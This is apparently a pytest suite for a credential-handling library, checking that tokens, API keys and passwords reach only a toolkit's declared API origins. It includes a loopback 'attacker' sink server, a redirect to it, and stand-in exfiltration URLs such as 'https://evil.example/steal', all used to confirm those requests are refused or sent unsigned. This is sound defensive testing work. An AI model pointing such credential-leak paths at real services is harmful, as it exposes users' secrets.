"""Credentials go to the toolkit's API only (issue 12, point 2).

An account's HTTP client signs requests to its toolkit's API origins (the rendered
``api_base_url`` or its ``TOOLAUTH_<TOOLKIT>_API_BASE_URL`` override, and the catalog's
``api_origins``) and refuses every other URL before anything is sent. A redirect it follows to
another origin goes without credentials, and a 401 from there never triggers a refresh.

Real HTTP only: the toolkit's "API" is a small Starlette app on loopback that records what it
gets and can redirect; the attacker's host is a raw TCP server on loopback that records every
connection and every byte (a TLS hello too), so "nothing was sent" means no connection at all.
"""

from __future__ import annotations

import asyncio
import contextlib
import secrets
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from typing import Any

import httpx
import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response
from starlette.routing import Route

from tests.conftest import DEMO_CLIENT_ID, DEMO_CLIENT_SECRET, Connect
from toolauth import AsyncToolAuth, CatalogError, Settings, ToolApiError
from toolauth._models import ConnectedAccount
from toolauth.connect.serving import serve_app

SCHEMES = ("oauth2", "api_key", "basic")


# the attacker's host: a raw TCP server -------------------------------------------------------
@dataclass
class Sink:
    """An attacker's server on loopback. It records every connection and the head of each
    request as raw bytes (whatever they are: HTTP, a TLS hello), and answers ``status``."""

    url: str = ""
    port: int = 0
    status: int = 200
    connections: int = 0
    heads: list[bytes] = field(default_factory=list)
    arrived: asyncio.Event = field(default_factory=asyncio.Event)

    async def _handle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.connections += 1
        try:
            head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 5)
        except asyncio.IncompleteReadError as exc:
            head = exc.partial
        except (asyncio.LimitOverrunError, asyncio.TimeoutError):
            head = b"<unreadable>"
        self.heads.append(head)
        body = b'{"error": "invalid_token"}' if self.status == 401 else b'{"stolen": true}'
        writer.write(
            f"HTTP/1.1 {self.status} Whatever\r\nContent-Type: application/json\r\n"
            f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n".encode()
            + body
        )
        with contextlib.suppress(ConnectionError):
            await writer.drain()
        writer.close()
        self.arrived.set()

    def headers(self) -> list[dict[str, str]]:
        """The headers of each HTTP request received (names lowercased)."""
        found = []
        for head in self.heads:
            lines = head.decode("latin-1").split("\r\n")[1:]
            found.append({k.strip().lower(): v.strip() for k, _, v in (ln.partition(":") for ln in lines if ln)})  # fmt: skip
        return found


@contextlib.asynccontextmanager
async def sink() -> AsyncIterator[Sink]:
    found = Sink()
    server = await asyncio.start_server(found._handle, "127.0.0.1", 0)
    found.port = server.sockets[0].getsockname()[1]
    found.url = f"http://127.0.0.1:{found.port}"
    try:
        yield found
    finally:
        server.close()
        await server.wait_closed()


# the toolkit's API: a Starlette app that records and can redirect ---------------------------
@dataclass
class Seen:
    path: str
    query: dict[str, str]
    headers: dict[str, str]


class Api:
    """The toolkit's API: ``/api/redirect`` answers 302 to ``redirect_to`` (keeping the query
    string, as many servers do); anything else answers 200. Every request is recorded."""

    def __init__(self) -> None:
        self.seen: list[Seen] = []
        self.redirect_to = ""
        self.url = ""
        self.app = Starlette(
            routes=[Route("/{path:path}", self._any, methods=["GET", "POST", "PUT", "DELETE"])]
        )

    async def _any(self, request: Request) -> Response:
        self.seen.append(Seen(request.url.path, dict(request.query_params), dict(request.headers)))
        if request.url.path == "/api/redirect":
            query = f"?{request.url.query}" if request.url.query else ""
            return Response(status_code=302, headers={"Location": self.redirect_to + query})
        return JSONResponse({"ok": True})


@dataclass
class World:
    connect: Connect
    api: Api
    evil: Sink
    extra: Api  # another origin, declared in the catalog's api_origins by some tests

    @property
    def ta(self) -> AsyncToolAuth:
        return self.connect.ta


@pytest.fixture
async def world(connect: Connect) -> AsyncIterator[World]:
    api, extra = Api(), Api()
    async with serve_app(api.app) as api_url, serve_app(extra.app) as extra_url, sink() as evil:
        api.url, extra.url = api_url, extra_url
        api.redirect_to = f"{evil.url}/landing"
        await connect.ta.toolkits.register(vault_toolkit(api.url, connect.provider_url))
        yield World(connect, api, evil, extra)


def vault_toolkit(api_url: str, provider_url: str, **more: Any) -> dict[str, Any]:
    """A toolkit on the loopback API, with every way of placing credentials: an OAuth bearer
    token (refreshed at the demo provider), an API key in a header *and* the query string,
    HTTP Basic."""
    return {
        "slug": "vault", "name": "Vault", "description": "A toolkit whose API is on loopback.",
        "api_base_url": f"{api_url}/api",
        "auth_schemes": {
            "OAUTH2": {
                "authorization_url": f"{provider_url}/oauth/authorize",
                "token_url": f"{provider_url}/oauth/token",
            },
            "API_KEY": {
                "fields": [{"name": "api_key", "label": "Key"}],
                "placements": [
                    {"in": "header", "name": "X-API-Key", "format": "{api_key}"},
                    {"in": "query", "name": "key", "format": "{api_key}"},
                ],
            },
            "BASIC": {
                "fields": [
                    {"name": "username", "label": "Username", "secret": False},
                    {"name": "password", "label": "Password"},
                ],
                "placements": [{"in": "basic", "username": "{username}", "password": "{password}"}],
            },
        },
        **more,
    }  # fmt: skip


async def account(w: World, scheme: str, ta: AsyncToolAuth | None = None) -> tuple[ConnectedAccount, list[str]]:  # fmt: skip
    """A ``vault`` account of ``scheme``, and its secret values."""
    ta = ta or w.ta
    if scheme == "oauth2":
        config = await ta.auth_configs.create(
            "vault", type="use_custom_auth",
            credentials={"client_id": DEMO_CLIENT_ID, "client_secret": DEMO_CLIENT_SECRET},
        )  # fmt: skip
        tokens = w.connect.provider.issue_tokens("alice", client_id=DEMO_CLIENT_ID)
        credentials: dict[str, Any] = {
            "access_token": tokens["access_token"], "refresh_token": tokens["refresh_token"],
            "expires_in": 3600,
        }  # fmt: skip
        secret = [tokens["access_token"], tokens["refresh_token"]]
    elif scheme == "api_key":
        config = await ta.auth_configs.create("vault", auth_scheme="API_KEY")
        credentials = {"api_key": "vault-key-SENTINEL-" + secrets.token_urlsafe(12)}
        secret = [credentials["api_key"]]
    else:
        config = await ta.auth_configs.create("vault", auth_scheme="BASIC")
        credentials = {"username": "alice", "password": "pw-SENTINEL-" + secrets.token_urlsafe(12)}
        secret = [credentials["password"]]
    created = await ta.connected_accounts.create("u1", config.id, credentials=credentials)
    return created, secret


def assert_unsigned(headers: dict[str, str], raw: str, secret: list[str]) -> None:
    """No credential of any kind in a request the attacker got."""
    assert "authorization" not in headers
    assert "x-api-key" not in headers
    assert "key=" not in raw.split("\r\n", 1)[0]
    for value in secret:
        assert value not in raw


# refused before anything is sent -----------------------------------------------------------


def _targets(w: World) -> dict[str, tuple[str, str]]:
    """Each way of naming another origin: (the URL a tool or the model passes, the origin the
    error names)."""
    api_port = httpx.URL(w.api.url).port
    evil = f"127.0.0.1:{w.evil.port}"
    return {
        "an absolute URL": (f"http://{evil}/x", f"http://{evil}"),
        "a network-path reference": (f"//{evil}/x?y=1", f"http://{evil}"),
        "https instead of http": (f"https://{evil}/x", f"https://{evil}"),
        "the API's port on another host name": (
            f"http://localhost:{api_port}/api/me",
            f"http://localhost:{api_port}",
        ),
    }


@pytest.mark.parametrize("scheme", SCHEMES)
@pytest.mark.parametrize(
    "target",
    [
        "an absolute URL",
        "a network-path reference",
        "https instead of http",
        "the API's port on another host name",
    ],
)
async def test_credentials_are_refused_to_any_other_origin_and_nothing_is_sent(
    world: World, scheme: str, target: str
) -> None:
    w = world
    found, _ = await account(w, scheme)
    if scheme == "oauth2":
        w.connect.provider.expire_access_tokens()  # a refresh would be due, too
    w.connect.provider.reset_stats()
    url, shown = _targets(w)[target]
    async with await w.ta.connected_accounts.http_client(found.id) as client:
        with pytest.raises(ToolApiError) as info:
            await client.get(url)
        with pytest.raises(ToolApiError):  # a POST, and a request built by hand, too
            await client.send(client.build_request("POST", url, json={"a": 1}))
        assert (await client.get("/me")).status_code == 200  # the API itself still works
    message = str(info.value)
    assert message.startswith(
        f"toolauth refused to send vault credentials to {shown}: not vault's API origin"
    )
    assert w.api.url in message  # says where the API is
    assert w.evil.connections == 0  # nothing at all reached the attacker's host
    assert [s.path for s in w.api.seen] == ["/api/me"]  # only the good call reached the API
    assert w.connect.provider.stats.refresh_requests == 0  # no refresh for a refused call


async def test_a_refused_url_names_the_host_of_an_https_origin(world: World) -> None:
    found, _ = await account(world, "api_key")
    async with await world.ta.connected_accounts.http_client(found.id) as client:
        with pytest.raises(ToolApiError) as info:
            await client.get("https://evil.example/steal")
    assert str(info.value).startswith(
        "toolauth refused to send vault credentials to evil.example: not vault's API origin"
    )


# redirects ---------------------------------------------------------------------------------


@pytest.mark.parametrize("scheme", SCHEMES)
async def test_a_redirect_to_another_origin_carries_no_credentials(
    world: World, scheme: str
) -> None:
    w = world
    found, secret = await account(w, scheme)
    async with await w.ta.connected_accounts.http_client(found.id) as client:
        # Not followed (httpx's default): the tool sees the 302, and following it by hand is
        # refused like any other URL.
        response = await client.get("/redirect", params={"page": "2"})
        assert response.status_code == 302
        with pytest.raises(ToolApiError):
            await client.get(response.headers["location"])
        assert w.evil.connections == 0
        # Followed: the attacker's host gets the request without any credential.
        followed = await client.get("/redirect", params={"page": "2"}, follow_redirects=True)
    assert followed.status_code == 200
    assert followed.json() == {"stolen": True}
    assert w.evil.connections == 1
    [head] = w.evil.heads
    [headers] = w.evil.headers()
    assert head.startswith(b"GET /landing?page=2 HTTP/1.1")  # the query was kept, the key not
    assert_unsigned(headers, head.decode("latin-1"), secret)
    signed = w.api.seen[-1]  # the API itself did get the credentials
    if scheme == "api_key":
        assert signed.headers["x-api-key"] == secret[0] and signed.query["key"] == secret[0]
    else:
        assert "authorization" in signed.headers


async def test_a_401_from_another_origin_never_triggers_a_refresh(world: World) -> None:
    w = world
    found, secret = await account(w, "oauth2")
    w.evil.status = 401
    w.connect.provider.reset_stats()
    async with await w.ta.connected_accounts.http_client(found.id) as client:
        response = await client.get("/redirect", follow_redirects=True)
    assert response.status_code == 401
    assert str(response.url).startswith(w.evil.url)
    assert w.connect.provider.stats.refresh_requests == 0
    assert w.evil.connections == 1  # not retried either
    assert_unsigned(w.evil.headers()[0], w.evil.heads[0].decode("latin-1"), secret)
    after = await w.ta.connected_accounts.get(found.id)
    assert after.credentials == found.credentials  # the refresh token was not spent


# which origins are the API's ---------------------------------------------------------------


async def test_origins_declared_in_the_catalog_are_signed_and_others_are_not(
    world: World,
) -> None:
    w = world
    await w.ta.toolkits.register(
        vault_toolkit(w.api.url, w.connect.provider_url, api_origins=[w.extra.url + "/"]),
        replace=True,
    )
    found, secret = await account(w, "api_key")
    async with await w.ta.connected_accounts.http_client(found.id) as client:
        assert (await client.get(f"{w.extra.url}/upload")).status_code == 200
        with pytest.raises(ToolApiError) as info:
            await client.get(f"{w.evil.url}/x")
    [upload] = w.extra.seen
    assert upload.headers["x-api-key"] == secret[0]
    assert upload.query["key"] == secret[0]
    assert w.api.url in str(info.value) and w.extra.url in str(info.value)
    assert w.evil.connections == 0


async def test_the_api_base_url_override_replaces_the_catalogs_origin(world: World) -> None:
    """TOOLAUTH_VAULT_API_BASE_URL points the toolkit elsewhere: credentials follow it, and
    no longer go to the catalog's origin."""
    w = world
    env = {**w.connect.env, "TOOLAUTH_VAULT_API_BASE_URL": f"{w.extra.url}/v2"}
    async with AsyncToolAuth(settings=Settings.from_env(env)) as other:
        await other.toolkits.register(vault_toolkit(w.api.url, w.connect.provider_url))
        found, secret = await account(w, "api_key", other)
        async with await other.connected_accounts.http_client(found.id) as client:
            assert (await client.get("/me")).status_code == 200
            with pytest.raises(ToolApiError) as info:
                await client.get(f"{w.api.url}/api/me")
    assert [(s.path, s.headers["x-api-key"]) for s in w.extra.seen] == [("/v2/me", secret[0])]
    assert w.api.seen == []
    assert "not vault's API origin" in str(info.value)


@pytest.mark.parametrize(
    "origin",
    ["ftp://files.example", "https://api.example/v1", "api.example", "https://u:p@api.example",
     "https://api.example?x=1", "https://api.example#f", "{base_url}", "https://api.example:99999"],
)  # fmt: skip
async def test_api_origins_must_be_http_origins(ta: AsyncToolAuth, origin: str) -> None:
    with pytest.raises(CatalogError) as info:
        await ta.toolkits.register(vault_toolkit("http://127.0.0.1:1", "http://127.0.0.1:2", api_origins=[origin]))  # fmt: skip
    assert "api_origins" in str(info.value)
    assert "is not an origin" in str(info.value)


async def test_api_origins_are_normalised(ta: AsyncToolAuth) -> None:
    definition = await ta.toolkits.register(
        vault_toolkit(
            "http://127.0.0.1:1", "http://127.0.0.1:2",
            api_origins=["HTTPS://Uploads.Example:443/", "http://127.0.0.1:8080", "http://[::1]:80"],
        )
    )  # fmt: skip
    assert definition.api_origins == (
        "https://uploads.example", "http://127.0.0.1:8080", "http://[::1]",
    )  # fmt: skip
